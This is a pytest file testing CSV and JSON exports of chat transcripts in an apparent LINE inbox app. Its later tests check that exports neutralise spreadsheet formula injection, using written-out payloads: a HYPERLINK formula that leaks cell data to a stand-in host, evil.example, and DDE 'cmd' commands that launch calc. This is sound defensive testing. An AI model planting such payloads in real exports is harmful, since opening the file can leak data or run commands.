"""Streamed CSV and JSON exports of search results and transcripts, from the API and the CLI."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
import sqlalchemy as sa

from inbox.extensions import db
from inbox.history import export
from inbox.history.search import SearchFilters
from inbox.models import Conversation, Message, Role
from tests.line_events import deliver, event, text_event


@pytest.fixture
def conversation(client, make) -> Conversation:
    channel = make.channel()
    original = text_event("誕生日ケーキを予約したいです")
    deliver(client, channel, [original, text_event("ขอบคุณค่ะ")])
    deliver(client, channel, [event("unsend", unsend={"messageId": original["message"]["id"]})])
    return db.session.scalar(sa.select(Conversation))


def get(client, make, **params):
    return client.get(
        "/api/history/export", query_string=params, headers=make.auth_header(Role.SUPERVISOR)
    )


def test_search_results_as_csv(client, make, conversation) -> None:
    answer = get(client, make, q="ケーキ", format="csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert "Content-Length" not in answer.headers  # streamed, not built in memory
    assert 'filename="line-inbox-search.csv"' in answer.headers["Content-Disposition"]
    body = answer.data.decode("utf-8")
    assert body.startswith("\ufeff")  # spreadsheets then read Thai and Japanese right
    (row,) = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert row["text"] == "誕生日ケーキを予約したいです" and row["unsent"] == "True"
    assert row["conversation_id"] == str(conversation.id) and row["direction"] == "incoming"


def test_a_whole_transcript_as_json(client, make, conversation) -> None:
    agent = make.auth_header(Role.AGENT)
    client.post(
        f"/api/conversations/{conversation.id}/notes", json={"text": "โทรกลับ"}, headers=agent
    )
    answer = get(client, make, conversation=conversation.id, format="json")
    rows = json.loads(answer.data)
    assert [row["text"] for row in rows] == ["誕生日ケーキを予約したいです", "ขอบคุณค่ะ", "โทรกลับ"]
    assert rows[-1]["type"] == "note" and rows[-1]["sent_by"].endswith("@example.com")


@pytest.mark.parametrize(
    ("params", "status"),
    [({"format": "csv"}, 400), ({"q": "x", "format": "xml"}, 400), ({"conversation": "x"}, 400)],
)
def test_bad_exports_are_explained(client, make, conversation, params, status) -> None:
    assert get(client, make, **params).status_code == status


def test_rows_are_read_in_batches(app, client, make, monkeypatch) -> None:
    channel = make.channel()
    deliver(client, channel, [text_event(f"สั่ง {n}") for n in range(7)])
    monkeypatch.setattr(export, "BATCH", 2)
    rows = list(export.export_rows(SearchFilters(query="สั่ง")))
    assert [row["text"] for row in rows] == [f"สั่ง {n}" for n in range(7)]


def test_cli_exports_to_a_file(runner, conversation, tmp_path) -> None:
    target = tmp_path / "out.json"
    result = runner.invoke(
        args=["history", "export", "--query", "ขอบคุณ", "--format", "json", "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert [row["text"] for row in json.loads(target.read_text(encoding="utf-8"))] == ["ขอบคุณค่ะ"]
    refused = runner.invoke(args=["history", "export"])
    assert refused.exit_code != 0 and "--query" in refused.output
    incoming = tmp_path / "incoming.csv"
    by_filter = runner.invoke(
        args=[
            *("history", "export", "--conversation", str(conversation.id)),
            *("--direction", "incoming", "--status", "open", "-o", str(incoming)),
        ]
    )
    assert by_filter.exit_code == 0, by_filter.output
    rows = list(csv.DictReader(incoming.read_text(encoding="utf-8-sig").splitlines()))
    assert [row["text"] for row in rows] == ["誕生日ケーキを予約したいです", "ขอบคุณค่ะ"]


# Cells a spreadsheet would run as formulas (OWASP's list of first characters), and what the
# export must write instead: the same text behind a single quote.
HOSTILE_TEXTS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ORDINARY_TEXTS = ["ขอบคุณค่ะ", "誕生日ケーキ", "a-b = c", "'quoted already"]


@pytest.fixture
def hostile_chat(client, make) -> Conversation:
    """A chat whose customer, messages and private note all try to be formulas."""
    channel = make.channel()
    deliver(client, channel, [text_event(text) for text in HOSTILE_TEXTS + ORDINARY_TEXTS])
    conversation = db.session.scalar(sa.select(Conversation))
    conversation.contact.display_name = "=cmd|' /C calc'!A0"
    db.session.commit()
    note = client.post(
        f"/api/conversations/{conversation.id}/notes",
        json={"text": "=1+1 call back"},
        headers=make.auth_header(Role.AGENT),
    )
    assert note.status_code == 201
    return conversation


def assert_no_formulas(rows: list[dict[str, str]], conversation: Conversation) -> None:
    texts = [row["text"] for row in rows]
    assert texts == ["'" + text for text in HOSTILE_TEXTS] + ORDINARY_TEXTS + ["'=1+1 call back"]
    assert {row["chat_name"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    # What the product writes itself reads as before: ids, times, states.
    assert rows[0]["conversation_id"] == str(conversation.id)
    first = db.session.scalar(sa.select(Message).order_by(Message.sent_at, Message.id))
    assert rows[0]["sent_at"] == first.sent_at.isoformat()
    assert rows[0]["direction"] == "incoming" and rows[0]["unsent"] == "False"


def test_the_api_export_neutralises_formulas(client, make, hostile_chat) -> None:
    answer = get(client, make, conversation=hostile_chat.id, format="csv")
    rows = list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    assert_no_formulas(rows, hostile_chat)


def test_the_history_page_export_neutralises_formulas(client, make, hostile_chat) -> None:
    from tests.test_admin_users import sign_in

    supervisor = make.user(Role.SUPERVISOR)
    assert sign_in(client, supervisor.email).status_code == 302
    page = client.get(f"/history/conversations/{hostile_chat.id}").get_data(as_text=True)
    link = re.search(r'href="([^"]+format=csv[^"]*)"', page).group(1).replace("&amp;", "&")
    answer = client.get(link)
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    assert_no_formulas(rows, hostile_chat)


def test_the_cli_export_neutralises_formulas(runner, hostile_chat, tmp_path) -> None:
    target = tmp_path / "transcript.csv"
    result = runner.invoke(
        args=["history", "export", "--conversation", str(hostile_chat.id), "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8-sig", newline="") as exported:
        assert_no_formulas(list(csv.DictReader(exported)), hostile_chat)
